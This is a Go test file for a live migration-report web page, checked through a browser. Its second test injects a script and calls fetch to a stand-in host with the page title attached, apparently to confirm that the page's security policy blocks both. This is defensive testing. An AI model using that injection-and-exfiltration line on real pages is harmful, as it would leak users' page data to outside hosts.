package page

import (
	"context"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/changeover-go/changeover/migration/journal"
	"github.com/changeover-go/changeover/migration/report"
)

// A growing journal is one to which the test adds.
type growing struct {
	t     testing.TB
	run   *run
	mu    sync.Mutex
	store *journal.Memory
	rest  []journal.Entry
	live  bool
}

// grow begins with the first n entries of a run.
func grow(t testing.TB, r *run, n int) *growing {
	t.Helper()
	g := &growing{t: t, run: r, store: new(journal.Memory), live: true}
	for e, err := range r.store.Read(t.Context()) {
		require.NoError(t, err)
		g.rest = append(g.rest, e)
	}
	g.add(n)
	return g
}

func (g *growing) add(n int) {
	g.t.Helper()
	g.mu.Lock()
	defer g.mu.Unlock()
	n = min(n, len(g.rest))
	require.NoError(g.t, g.store.Append(g.t.Context(), g.rest[0].Seq-1, g.rest[:n]...))
	g.rest = g.rest[n:]
}

func (g *growing) end() {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.live = false
}

func (g *growing) source(ctx context.Context) (View, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	r, err := report.New(g.run.plan, g.store.Read(ctx))
	return View{Report: r, Plan: g.run.plan, Live: g.live}, err
}

// serve serves what source returns on loopback; stop ends it.
func serve(t testing.TB, source func(context.Context) (View, error)) (s *Server, url string, stop func()) {
	t.Helper()
	s, err := New(source, Options{Every: 1})
	require.NoError(t, err)
	l, err := Listen(t.Context(), "127.0.0.1:0")
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(t.Context())
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		err = s.Serve(ctx, l)
	}()
	stop = func() {
		cancel()
		<-ended
		require.NoError(t, err)
	}
	t.Cleanup(stop)
	return s, s.URL(l.Addr().String()), stop
}

func liveShowsEachEntry(t *testing.T, chrome context.Context) {
	r := newRun(t, "", names4())
	r.world.DropSerial(r.plan.Source, "Quality")
	r.apply()
	g := grow(t, r, 6)
	s, url, stop := serve(t, g.source)
	tab := open(t, chrome, url, 1280)
	tab.until(`document.querySelector('h2').textContent === 'Running'`)
	tab.audit()
	var done bool
	tab.eval(`(document.querySelector('#lane-1').open = true, document.querySelector('#lane-1 summary').focus(), scrollTo(0, 300), true)`, &done)
	for n := 1; len(g.rest) > 0; n++ {
		g.add(n * n)
		s.Changed()
		seq := len(r.entries()) - len(g.rest)
		tab.until(`document.querySelector('.about').textContent.includes('` + itoa(seq) + ` entries')`)
	}
	var kept struct {
		Open, Other bool
		Focus       string
		Y           float64
	}
	tab.eval(`({Open: document.querySelector('#lane-1').open, Other: document.querySelector('#lane-2').open, Focus: document.activeElement.parentElement.id, Y: scrollY})`, &kept)
	require.True(t, kept.Open)
	require.False(t, kept.Other)
	require.Equal(t, "lane-1", kept.Focus)
	require.Equal(t, 300.0, kept.Y)

	// The support case can be copied.
	tab.eval(`(document.getElementById('copy').click(), true)`, &done)
	tab.until(`document.getElementById('copy').textContent !== 'Copy'`)
	tab.audit()
	tab.resize(400)
	tab.audit()
	tab.prefer("screen", "dark")
	tab.audit()

	g.end()
	s.Changed()
	stop() // at once: the last page is not lost
	tab.until(`document.getElementById('link').textContent.includes('The report can be made')`)
	tab.until(`document.querySelector('.live') === null`)
	tab.audit()
	tab.quiet(url, url+"events?after=1", "data:,")
}

func liveRunsNoOtherScript(t *testing.T, chrome context.Context) {
	v := find(t, "hostile names")
	_, url, stop := serve(t, func(context.Context) (View, error) { return v, nil })
	tab := open(t, chrome, url, 1280)
	tab.audit()
	tab.quiet(url, url+"events?after=1")
	// Even a script that somehow got into the page would not run.
	var ran string
	tab.eval(`(() => { const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s); return String(window.ran); })()`, &ran)
	require.Equal(t, "undefined", ran)
	// And nothing can be sent anywhere.
	tab.eval(`(fetch('https://example.test/?' + document.title).catch(() => { window.refused = true; }), '')`, &ran)
	tab.until(`window.refused === true`)
	require.NotEmpty(t, tab.problems, "the browser has complained of both")

	stop() // nothing has changed, and the reader is told all the same
	tab.until(`document.getElementById('link').textContent.includes('The report can be made')`)
}
